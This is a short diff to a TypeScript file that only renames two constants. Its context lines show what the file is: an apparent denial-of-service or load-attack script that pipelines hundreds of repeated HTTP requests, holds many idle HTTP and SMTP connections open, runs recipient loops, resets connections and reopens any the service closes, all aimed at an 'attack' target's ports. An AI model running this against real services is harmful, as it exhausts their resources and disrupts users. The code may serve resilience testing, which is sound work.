@@ -31,9 +31,9 @@ const counts = {
 const RESETS_PER_SECOND = 100;
 const REPORTS_PER_SECOND = 2;
 const MAX_PIPELINES = 20;
-const PIPELINED_REQUESTS = 500;
+const PIPELINED_REQUEST_COUNT = 500;
 const IDLE_CONNECTIONS_PER_LISTENER = 500;
-const SMTP_IDLE_CONNECTIONS = 150;
+const SMTP_IDLE_CONNECTION_COUNT = 150;
 const MAX_RECIPIENT_LOOPS = 5;
 /** The time after which a connection that the service closed is reopened. */
 const REOPEN_DELAY_MS = 250;
@@ -88,7 +88,7 @@ function resetConnection(): void {
 function openPipeline(): void {
   counts.pipelines += 1;
   const port = counts.pipelines % 2 === 0 ? attack.publicPort : attack.operatorPort;
-  const request = 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(PIPELINED_REQUESTS);
+  const request = 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(PIPELINED_REQUEST_COUNT);
   openSocket(
     port,
     (socket) => {
@@ -184,7 +184,7 @@ function sendReport(): void {
 for (let index = 0; index < MAX_PIPELINES; index += 1) openPipeline();
 for (let index = 0; index < IDLE_CONNECTIONS_PER_LISTENER; index += 1)
   for (const port of [attack.publicPort, attack.operatorPort]) openIdleConnection(port);
-for (let index = 0; index < SMTP_IDLE_CONNECTIONS; index += 1) openIdleSmtpConnection();
+for (let index = 0; index < SMTP_IDLE_CONNECTION_COUNT; index += 1) openIdleSmtpConnection();
 for (let index = 0; index < MAX_RECIPIENT_LOOPS; index += 1) openRecipientLoop();
 const timers = [
   setInterval(() => {
